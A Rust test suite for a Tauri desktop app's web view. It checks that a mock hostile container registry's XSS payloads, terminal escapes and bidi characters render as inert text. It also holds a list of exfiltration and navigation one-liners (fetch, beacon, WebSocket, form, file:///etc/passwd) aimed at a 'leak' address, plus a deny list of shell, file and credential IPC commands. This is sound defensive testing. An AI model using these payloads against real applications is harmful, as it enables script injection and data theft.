//! What a hostile registry says is shown as text and does nothing; and the page cannot be led away, nor lead out.

use std::io::{BufRead, BufReader, Read, Write};
use std::net::{SocketAddr, TcpListener, TcpStream};
use std::sync::{Arc, Mutex};
use std::thread;
use std::time::Duration;

use sampan_domain::error::clean;
use sampan_tests::process;
use sampan_tests::sampan::Sampan;
use serde_json::{Value, json};

use crate::window::Window;

/// HTML that would run, a link that would, terminal sequences, a link of a terminal, text that turns round.
const HOSTILE: &str = "<img src=x onerror=\"window.__pwned=1\"><script>window.__pwned=2</script>\
    <a href=\"javascript:window.__pwned=3\">here</a>\u{1b}[31mred\u{1b}]8;;https://evil.example\u{7}link\u{1b}]8;;\u{7}\
    \u{202e}gnihtemos\u{2066}\r\nforged: line\u{0}end";

/// A registry whose every word is hostile; it remembers what it was asked.
struct Registry {
    address: SocketAddr,
    asked: Arc<Mutex<Vec<String>>>,
}

impl Registry {
    fn start() -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let address = listener.local_addr().unwrap();
        let asked: Arc<Mutex<Vec<String>>> = Arc::default();
        let memory = Arc::clone(&asked);
        thread::spawn(move || {
            for client in listener.incoming().flatten() {
                let memory = Arc::clone(&memory);
                thread::spawn(move || answer(&client, &memory));
            }
        });
        Self { address, asked }
    }

    fn asked(&self) -> Vec<String> {
        self.asked.lock().unwrap().clone()
    }
}

/// Answers one request: `/v2/` and the heads of manifests are fine, everything else is refused at length.
fn answer(mut client: &TcpStream, asked: &Mutex<Vec<String>>) -> Option<()> {
    let mut reader = BufReader::new(client.try_clone().ok()?);
    let mut line = String::new();
    reader.read_line(&mut line).ok()?;
    asked.lock().unwrap().push(line.trim().to_owned());
    let mut header = String::from("-");
    while header.trim() != "" {
        header.clear();
        reader.by_ref().take(1 << 16).read_line(&mut header).ok()?;
    }
    let manifest = "content-type: application/vnd.oci.image.manifest.v1+json\r\n";
    let digest = format!("docker-content-digest: sha256:{}\r\n", "a".repeat(64));
    let head = match line.split(' ').collect::<Vec<_>>()[..] {
        [_, "/v2/", ..] => "HTTP/1.1 200 OK\r\ncontent-length: 2\r\nconnection: close\r\n\r\n{}".to_owned(),
        ["HEAD", path, ..] if path.contains("/manifests/") && !path.contains("fourth") => {
            format!("HTTP/1.1 200 OK\r\n{manifest}{digest}content-length: 512\r\nconnection: close\r\n\r\n")
        }
        // A list whose names are none.
        [_, path, ..] if path.contains("/tags/list") => {
            let tags =
                json!({ "tags": ["1", HOSTILE, "<b>", "a\u{202e}b", "x".repeat(1 << 20), null] }).to_string();
            let length = tags.len();
            format!(
                "HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: {length}\r\nconnection: close\r\n\r\n{tags}"
            )
        }
        // The fourth image: a realm that would be sent the password, were there one.
        [_, path, ..] if path.contains("fourth") => {
            let realm = "Bearer realm=\"https://evil.example/<img src=x onerror=window.__pwned=5>\"";
            format!(
                "HTTP/1.1 401 Unauthorized\r\nwww-authenticate: {realm}\r\ncontent-length: 0\r\nconnection: close\r\n\r\n"
            )
        }
        // The third: what is no UTF-8.
        [_, path, ..] if path.contains("third") => {
            let body = b"<title>\xff\xfe<script>x</script>\xc3(</title>";
            let head = format!(
                "HTTP/1.1 403 Forbidden\r\ncontent-type: text/html\r\ncontent-length: {}\r\nconnection: close\r\n\r\n",
                body.len()
            );
            client.write_all(head.as_bytes()).ok()?;
            return client.write_all(body).ok();
        }
        [_, path, ..] => {
            // The second image: a line of 10 MB.
            let long = if path.contains("second") { "A".repeat(10 << 20) } else { String::new() };
            let body = json!({ "errors": [{ "code": "DENIED", "message": format!("{HOSTILE}{long}") }] })
                .to_string();
            format!(
                "HTTP/1.1 403 Forbidden\r\ncontent-type: application/json\r\nwarning: 299 - \"<b>x</b>\"\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{body}",
                body.len()
            )
        }
        _ => return None,
    };
    client.write_all(head.as_bytes()).ok()
}

#[test]
fn hostile_text_is_text() {
    let registry = Registry::start();
    let machine = Sampan::new();
    let rules = format!(
        "targets:\n  - {{ name: hostile, url: \"http://{}\" }}\n  - {{ name: out, layout: ./out }}\n\
         rules:\n  - name: box\n    description: {}\n    source: hostile\n    repositories: {{ include: [team/first, team/second, team/third] }}\n    \
         tags: {{ include: [\"1\"] }}\n    destinations: [{{ target: out }}]\n    retry: {{ attempts: 1 }}\n  \
         - name: asked\n    source: hostile\n    repositories: {{ include: [team/fourth] }}\n    \
         tags: {{ include: [\"1\"] }}\n    destinations: [{{ target: out }}]\n  \
         - name: listed\n    source: hostile\n    repositories: {{ include: [team/listed] }}\n    \
         tags: {{ include: [\"*\"] }}\n    destinations: [{{ target: out }}]\n    retry: {{ attempts: 1 }}\n",
        registry.address,
        json!("<img src=x onerror=\"window.__pwned=4\">"),
    );
    machine.write("rules.yaml", &rules);
    machine.json(&["apply", "-f", "rules.yaml"]).expect_code(0);
    let window = Window::open(&machine, "en_US.UTF-8");
    window.click("[data-page=rules]");
    window.hear("main", "box");
    harmless(&window);
    window.click("[data-rule=box] [data-action=run]");
    window.click("[data-page=jobs]");
    for image in ["team/first", "team/second", "team/third"] {
        let row = format!("[data-job]:has([title*='{image}'])");
        window.hear(&format!("{row} [data-status]"), "Failed");
        window.click(&format!("{row} [data-action=log]"));
        window.see("[data-details] [data-tab-shown=log]");
        harmless(&window);
        window.click("[data-details] [data-tab=overview]");
        window.click("[data-details] .fold");
        let told = match image {
            "team/first" => "<img src=x onerror=",
            // Of an answer without end nothing is shown.
            "team/second" => "status=403",
            _ => "<script>x</script>",
        };
        window.hear("[data-details] .technical", told);
        if image.ends_with("first") {
            // What is read is what was said, made harmless, character by character.
            let said: String = clean(HOSTILE).chars().take(200).collect();
            let shown = window.text("[data-details] .technical pre");
            assert!(shown.contains(&said), "{shown:?} has not {said:?}");
        }
        harmless(&window);
        window.picture(&format!("hostile-{}", image.replace('/', "-")), "en");
    }
    // What cannot be planned says so with the words of strangers, too.
    for rule in ["asked", "listed"] {
        window.click("[data-page=rules]");
        window.click(&format!("[data-rule={rule}] [data-action=run]"));
    }
    window.click("[data-page=runs]");
    window.hear("main", "asked");
    process::wait_until("both have ended", Duration::from_secs(60), || {
        let runs = machine.json(&["run", "list"]).json["runs"].clone();
        runs.as_array().unwrap().iter().all(|run| run["ended"] != Value::Null)
    });
    for page in ["overview", "rules", "runs", "jobs", "targets", "activity", "settings", "guide"] {
        window.click(&format!("[data-page={page}]"));
        thread::sleep(Duration::from_millis(700));
        harmless(&window);
    }
    let strangers: Vec<String> =
        registry.asked().into_iter().filter(|line| !line.contains(" /v2/")).collect();
    assert_eq!(strangers, Vec::<String>::new(), "nobody is visited");
    window.leave();
}

/// Nothing has run, nothing was made of it, and what is shown holds nothing that turns text round or steers.
fn harmless(window: &Window) {
    let seen = window.script(
        "return {
            pwned: window.__pwned ?? null,
            made: document.querySelectorAll('img[src=x], a[href^=javascript], script:not([src])').length,
            steering: [...document.body.innerText].some((each) => /[\\u0000-\\u0008\\u000b\\u000c\\u000e-\\u001f\\u007f-\\u009f\\u202a-\\u202e\\u2066-\\u2069]/.test(each)),
            longest: Math.max(...document.body.innerText.split('\\n').map((line) => line.length)),
        }",
    );
    assert_eq!(
        (&seen["pwned"], &seen["made"], &seen["steering"]),
        (&Value::Null, &0.into(), &false.into()),
        "{seen}"
    );
    assert!(seen["longest"].as_u64().unwrap() <= 10_000, "{seen}");
}

/// Ways out of the page and into it that a page under attack could try. The address stands for a server that listens.
const WAYS: &[(&str, &str)] = &[
    (
        "a script in the page",
        "const s = document.createElement('script'); s.textContent = 'window.__pwned = 1'; document.head.append(s)",
    ),
    (
        "a script from elsewhere",
        "const s = document.createElement('script'); s.src = 'ADDRESS/leak.js'; document.head.append(s)",
    ),
    (
        "an attribute",
        "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.__pwned=2\">')",
    ),
    ("eval", "try { (0, eval)('window.__pwned = 3') } catch {}"),
    ("an image", "new Image().src = 'ADDRESS/leak.png'"),
    ("a request", "fetch('ADDRESS/leak').catch(() => {})"),
    ("a beacon", "navigator.sendBeacon('ADDRESS/leak')"),
    ("a socket", "try { new WebSocket('ws://HOST/leak') } catch {}"),
    (
        "a frame",
        "const f = document.createElement('iframe'); f.src = 'ADDRESS/leak.html'; document.body.append(f)",
    ),
    (
        "a frame of data",
        "const f = document.createElement('iframe'); f.src = 'data:text/html,<script>parent.__pwned = 4</script>'; document.body.append(f)",
    ),
    (
        "a form",
        "const f = document.createElement('form'); f.action = 'ADDRESS/leak'; document.body.append(f); f.submit()",
    ),
    ("a window", "window.open('ADDRESS/leak')"),
    (
        "a link",
        "const a = document.createElement('a'); a.href = 'ADDRESS/leak'; document.body.append(a); a.click()",
    ),
    (
        "a style",
        "document.body.insertAdjacentHTML('beforeend', '<div style=\"background:url(ADDRESS/leak.css)\">x</div>')",
    ),
    (
        "a refresh",
        "document.head.insertAdjacentHTML('beforeend', '<meta http-equiv=\"refresh\" content=\"0;url=ADDRESS/leak\">')",
    ),
    ("another address", "location.href = 'ADDRESS/leak'"),
    ("a file", "location.href = 'file:///etc/passwd'"),
    ("data", "location.href = 'data:text/html,<h1>hello</h1>'"),
];

#[test]
fn the_page_cannot_be_led_away_nor_lead_out() {
    let registry = Registry::start();
    let machine = Sampan::new();
    let window = Window::open(&machine, "en_US.UTF-8");
    window.see("h1");
    let here = window.script("return location.origin");
    for (way, script) in WAYS {
        let script = script
            .replace("ADDRESS", &format!("http://{}", registry.address))
            .replace("HOST", &registry.address.to_string());
        window.script(&script);
        thread::sleep(Duration::from_millis(400));
        assert_eq!(window.script("return location.origin"), here, "{way} led the page away");
        assert_eq!(window.script("return window.__pwned ?? null"), Value::Null, "{way} ran");
        assert_eq!(registry.asked(), Vec::<String>::new(), "{way} led out");
    }
    assert_eq!(window.script("return window.__TAURI__ ?? null"), Value::Null, "no global of Tauri");
    window.leave();
}

/// Commands that a page under attack would like to have.
const NOT_FOR_THE_PAGE: &[&str] = &[
    "plugin:fs|read_text_file",
    "plugin:shell|execute",
    "plugin:shell|open",
    "plugin:opener|open_path",
    "plugin:http|fetch",
    "plugin:process|exit",
    "plugin:dialog|save",
    "plugin:webview|create_webview_window",
    "plugin:window|create",
    "plugin:path|resolve_directory",
    "plugin:app|version",
    "plugin:event|emit",
    "secret_get",
    "get_credential",
];

#[test]
fn what_the_page_may_call_is_what_is_listed() {
    let machine = Sampan::new();
    let window = Window::open(&machine, "en_US.UTF-8");
    window.see("h1");
    for command in NOT_FOR_THE_PAGE {
        let refused = window.script_with(
            "const done = arguments[arguments.length - 1];
             window.__TAURI_INTERNALS__.invoke(arguments[0], {}).then((got) => done({ got }), (why) => done({ why: String(why) }));",
            vec![json!(command)],
        );
        let why = refused["why"].as_str().unwrap_or_else(|| panic!("{command} was answered: {refused}"));
        assert!(why.contains("not allowed") || why.contains("not found"), "{command}: {why}");
    }
    window.leave();
}
